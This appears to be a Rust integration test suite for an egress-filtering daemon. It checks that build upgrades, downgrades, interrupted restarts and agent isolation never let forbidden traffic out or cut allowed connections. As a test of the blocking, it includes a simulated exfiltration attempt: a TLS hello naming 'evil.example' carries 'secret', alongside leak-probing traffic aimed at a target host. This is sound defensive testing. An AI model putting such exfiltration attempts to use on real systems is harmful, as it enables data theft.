//! Another build takes over: nothing is detached, nothing forbidden leaves meanwhile, and what
//! was allowed goes on. Builds of another layout keep tables of their own, so each way between
//! two of those is an upgrade to one of them and a downgrade to the other.

use exeat_tests::attack::{DECOY, PLAIN_USER, PORT, TARGET};
use exeat_tests::daemon::program;
use exeat_tests::puppet::Puppet;
use exeat_tests::sink::TcpSink;
use exeat_tests::stage::{AGENT, Stage};
use exeat_tests::technique::another_layout;
use exeat_tests::traffic::{Traffic, traffic_arguments};
use exeat_tests::{count, unique, wait};
use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};

/// Hellos as OpenSSL makes them.
const SAY: &str = include_str!("tls/say.py");

const POLICY: &str = "\
version: 1
agents:
  worker:
    allow:
      - { host: allowed.example, ports: [4433] }
      - { host: stream.example, ports: [4433] }
      - { host: good.example, ports: [443] }
";

/// The record is no part of this, and reading a long one at each start takes a debug build
/// longer than the start itself.
const QUIET: &str = "audit: { enabled: false }\nhistory: { enabled: false }\ndetect: { starter: false, rules: [] }\n";

/// Of the name `good.example`, where `say.py` connects to.
const NAMED: &str = "203.0.113.30:443";
const STREAM: &str = "203.0.113.31:4433";

/// The builds that take turns: this one, one of another layout, and one that
/// `EXEAT_OTHER_BIN` names, such as the last release.
fn builds() -> Vec<PathBuf> {
    let other = std::env::var_os("EXEAT_OTHER_BIN").map(PathBuf::from);
    [program(), another_layout()]
        .into_iter()
        .chain(other)
        .collect()
}

/// An agent with connections that were opened before, and hosts at their ends.
struct Scene {
    agent: Puppet,
    named: TcpSink,
    plain: TcpSink,
    sent: usize,
    stage: Stage,
}

impl Scene {
    fn new() -> Self {
        let mut stage = Stage::new(POLICY, QUIET).expect("stage");
        stage.dns.set("stream.example", &["203.0.113.31"], 60);
        stage.dns.set("good.example", &["203.0.113.30"], 60);
        let named = stage.world.tcp_sink(NAMED).expect("sink");
        let plain = stage.world.tcp_sink(STREAM).expect("sink");
        stage.daemon.with_fd_store().expect("a service");
        let mut agent = stage.daemon.puppet(AGENT).expect("puppet");
        agent.value(SAY).expect("functions");
        let open = "\
getaddrinfo('good.example', 443, type=SOCK_STREAM)
getaddrinfo('stream.example', 4433, type=SOCK_STREAM)
getaddrinfo('allowed.example', 4433, type=SOCK_STREAM)
NAMED = say([hello('good.example'), CHANGE + data('begun')])
HALF = say([hello('good.example')[:100]])
PLAIN = tcp('203.0.113.31', 4433)
";
        agent.value(open).expect("connections");
        Self {
            agent,
            named,
            plain,
            sent: 0,
            stage,
        }
    }

    /// The connections from before carry one more byte each, and it arrives.
    fn go_on(&mut self, what: &str) {
        let bytes =
            |sink: &TcpSink| -> usize { sink.arrivals().iter().map(|one| one.bytes.len()).sum() };
        let before = bytes(&self.named);
        self.agent
            .value("NAMED.sendall(data('x'))\nPLAIN.sendall(b'x')")
            .expect(what);
        self.sent += 1;
        wait::until("both to go on", wait::patience(), || {
            (bytes(&self.named) >= before + 6 && bytes(&self.plain) >= self.sent).then_some(())
        })
        .unwrap_or_else(|e| panic!("{what}: {e:#}"));
        // The traffic of many turns is more than is kept.
        let forget = self
            .stage
            .sniffer
            .forget(|packet| !packet.is_to(TARGET.into()));
        forget.expect(what);
    }
}

#[test]
fn upgrades_downgrades_and_interrupted_ones_under_traffic_let_nothing_out_and_cut_nothing() {
    let mut scene = Scene::new();
    let decoy = scene.stage.world.http(&format!("{DECOY}:{PORT}"));
    let decoy = decoy.expect("decoy");
    let target = format!("{TARGET}:{PORT}");
    let tcp = scene.stage.world.tcp_sink(&target).expect("sink");
    let udp = scene.stage.world.udp_sink(&target).expect("sink");
    let argv = traffic_arguments(TARGET, DECOY, PORT, &unique::token());
    let command = scene.stage.daemon.run_command(AGENT, PLAIN_USER, &argv);
    let traffic = Traffic::start(command).expect("traffic");
    let links = scene.stage.daemon.links().expect("links");
    let builds = builds();

    // Five rounds of four upgrades (to the same build anew, to the other ones, and so on) and a
    // downgrade.
    let mut slowest = Duration::ZERO;
    let last = builds.len() - 1;
    for round in 0..count("EXEAT_UPGRADES", 20).div_ceil(4) {
        for (step, which) in [0, last, 1, 1, 0].into_iter().enumerate() {
            let build = &builds[which];
            scene.stage.daemon.install(build);
            let begun = Instant::now();
            scene.stage.daemon.restart().expect("upgrade");
            slowest = slowest.max(begun.elapsed());
            scene.go_on(&format!(
                "round {round}, step {step} to {}",
                build.display()
            ));
        }
    }
    println!("the slowest start took {slowest:?}");
    for turn in 0..5u32 {
        let (new, old) = (&builds[1], &builds[0]);
        scene.stage.daemon.kill9().expect("kill");
        scene.stage.daemon.install(new);
        // Somewhere in its start.
        let moment = slowest * (turn + 1) / 6;
        scene.stage.daemon.start_and_kill9(moment).expect("cut off");
        scene.go_on(&format!("with no daemon, after interruption {turn}"));
        // Either goes on from there.
        scene.stage.daemon.install([new, old][turn as usize % 2]);
        scene.stage.daemon.restart().expect("after it");
        scene.go_on(&format!("after interruption {turn}"));
    }
    scene.stage.daemon.install(&builds[0]);
    scene.stage.daemon.restart().expect("the first again");

    assert_eq!(scene.stage.daemon.links().expect("links"), links);
    let counts = traffic.finish().expect("counts");
    assert_eq!(counts["leaked"], 0, "{counts}");
    assert_eq!(counts["failed"], 0, "{counts}");
    assert!(counts["allowed"].as_u64().is_some_and(|n| n > 0));
    assert!(!decoy.requests().is_empty());
    assert!(tcp.arrivals().is_empty() && udp.arrivals().is_empty());
    let escaped = scene
        .stage
        .forbidden(|packet| !packet.is_to(TARGET.into()))
        .expect("settle");
    assert!(escaped.is_empty(), "{escaped:?}");
    assert_eq!(scene.stage.sniffer.lost().expect("counters"), 0);
    // A hello whose first half was read by a build of the past ends as the name says.
    let rest = "push(HALF, [hello('good.example')[100:], CHANGE])";
    scene.agent.value(rest).expect("half a hello");
    scene.go_on("at the end");
    let evil = "E = say([hello('evil.example'), CHANGE + data('secret')])";
    scene.agent.ask(evil).expect("evil");
    scene
        .stage
        .daemon
        .event(|e| e["reason"] == "tls_name" && e["verdict"] == "deny")
        .expect("refused");
    assert!(!scene.named.holds("secret"));
}

#[test]
fn a_build_with_other_tables_leaves_what_is_enforced_where_its_policy_does_not_load() {
    let mut scene = Scene::new();
    let programs = |scene: &Scene| {
        let folder = scene.stage.daemon.bpffs().join("links");
        let output = Command::new("bpftool")
            .args(["--json", "link", "show", "pinned"])
            .arg(folder.join("exeat_egress"))
            .output()
            .expect("bpftool");
        let link: serde_json::Value = serde_json::from_slice(&output.stdout).expect("json");
        link.get(0).unwrap_or(&link)["prog_id"].clone()
    };
    let before = programs(&scene);
    assert!(before.is_u64(), "{before}");
    scene.stage.daemon.kill9().expect("kill");
    let daemon = &mut scene.stage.daemon;
    std::fs::remove_file(daemon.state_dir().join("last-good-policy.json")).expect("remove");
    daemon
        .write_policy("version: 1\nagents: [\n")
        .expect("write");
    daemon.install(another_layout());
    for _ in 0..2 {
        // Also where its maps are there, and empty, from the first attempt.
        let refused = scene.stage.daemon.restart().expect_err("no policy");
        let text = format!("{refused:#}");
        assert!(text.contains("stays in force"), "{text}");
        // What to do next.
        assert!(text.contains("exeat check"), "{text}");
        assert!(text.contains("install the build before"), "{text}");
        let _ = scene.stage.daemon.kill9();
        assert_eq!(programs(&scene), before);
    }
    scene.go_on("with no daemon");
    let connect = |scene: &mut Scene, host: &str| {
        let code = format!("tcp('{host}', 4433)");
        scene.agent.errno(&code).expect("connect")
    };
    assert_eq!(connect(&mut scene, "203.0.113.31"), 0);
    assert_eq!(connect(&mut scene, "203.0.113.66"), libc::EPERM);
    scene.stage.daemon.write_policy(POLICY).expect("write");
    scene.stage.daemon.restart().expect("with a policy");
    assert_ne!(programs(&scene), before);
    scene.go_on("after it");
    assert_eq!(connect(&mut scene, "203.0.113.31"), 0);
    assert_eq!(connect(&mut scene, "203.0.113.66"), libc::EPERM);
}

#[test]
fn an_agent_that_is_cut_off_stays_so_in_every_build() {
    let mut scene = Scene::new();
    let isolate = scene
        .stage
        .daemon
        .cli(&["isolate", "--agent", AGENT])
        .output()
        .expect("isolate");
    assert!(isolate.status.success());
    for build in [another_layout(), program(), another_layout()] {
        scene.stage.daemon.install(&build);
        scene.stage.daemon.restart().expect("upgrade");
        let refused = scene.agent.errno("tcp('203.0.113.31', 4433)");
        assert_eq!(
            refused.expect("connect"),
            libc::EPERM,
            "{}",
            build.display()
        );
    }
    let back = scene
        .stage
        .daemon
        .cli(&["isolate", "--agent", AGENT, "--off"])
        .output()
        .expect("isolate --off");
    assert!(back.status.success());
    let allowed = scene.agent.errno("tcp('203.0.113.31', 4433)");
    assert_eq!(allowed.expect("connect"), 0);
}

#[test]
fn what_a_later_build_pinned_and_this_one_does_not_know_is_taken_away() {
    let mut scene = Scene::new();
    let folder = scene.stage.daemon.bpffs().join("links");
    let links = scene.stage.daemon.links().expect("links");
    let future = folder.join("exeat_future");
    let pinned = Command::new("bpftool")
        .args(["link", "pin", "pinned"])
        .args([folder.join("exeat_bind4"), future.clone()])
        .status()
        .expect("bpftool");
    assert!(pinned.success() && future.exists());
    scene.stage.daemon.kill9().expect("kill");
    scene.stage.daemon.restart().expect("downgrade");
    assert!(!future.exists());
    assert_eq!(scene.stage.daemon.links().expect("links"), links);
    assert!(scene.stage.daemon.log().contains("another build left this"));
    scene.go_on("after it");
}
